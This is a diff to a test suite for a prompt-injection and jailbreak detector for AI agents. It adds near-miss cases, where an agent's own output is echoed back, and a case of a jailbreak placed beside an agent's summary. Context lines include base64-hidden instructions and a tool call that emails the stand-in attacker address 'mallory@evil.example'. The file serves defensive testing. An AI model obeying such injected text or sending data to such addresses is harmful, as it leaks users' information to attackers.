@@ -44,6 +44,22 @@ testDetector(
         name: 'a sensitive tool without suspicious text',
         steps: [inbox('Please bring your badge.'), tool('send_email', { to: 'ada@example.org' })],
       },
+      {
+        name: 'what an agent wrote comes back as a user message',
+        nearMiss: true,
+        steps: [llm(jailbreak, { input: [user('Show an example of a jailbreak.')] }), ask(`New task:\n${jailbreak}`)],
+      },
+      {
+        name: 'a tool prints what the agent told it to',
+        nearMiss: true,
+        steps: [
+          tool(
+            'python',
+            { code: `task = find the figures\n${attack}\nask(task)` },
+            { result: `The task was:\n${attack}\nNothing was found in the archive.` },
+          ),
+        ],
+      },
       { name: 'suspicion above the score', options: { suspect_at: 1 }, steps: [inbox(attack)] },
     ],
     fires: [
@@ -82,6 +98,14 @@ testDetector(
       },
       { name: 'base64', steps: [inbox(Buffer.from(attack).toString('base64'))], expect: [{ message: 'instruction_in_data' }] },
       { name: 'a jailbreak', steps: [ask(jailbreak)], expect: [{ message: 'user_override', at: 1 }] },
+      {
+        name: 'an attack beside what the agent wrote',
+        steps: [
+          llm('Here is the summary of the letter that you asked for.', { input: [user('Summarise the letter.')] }),
+          ask(`Here is the summary of the letter that you asked for.\n${jailbreak}`),
+        ],
+        expect: [{ message: 'user_override', at: 2 }],
+      },
       {
         name: 'a call to the address in the text',
         steps: [inbox(attack), tool('send_email', { to: 'mallory@evil.example', body: '…' })],
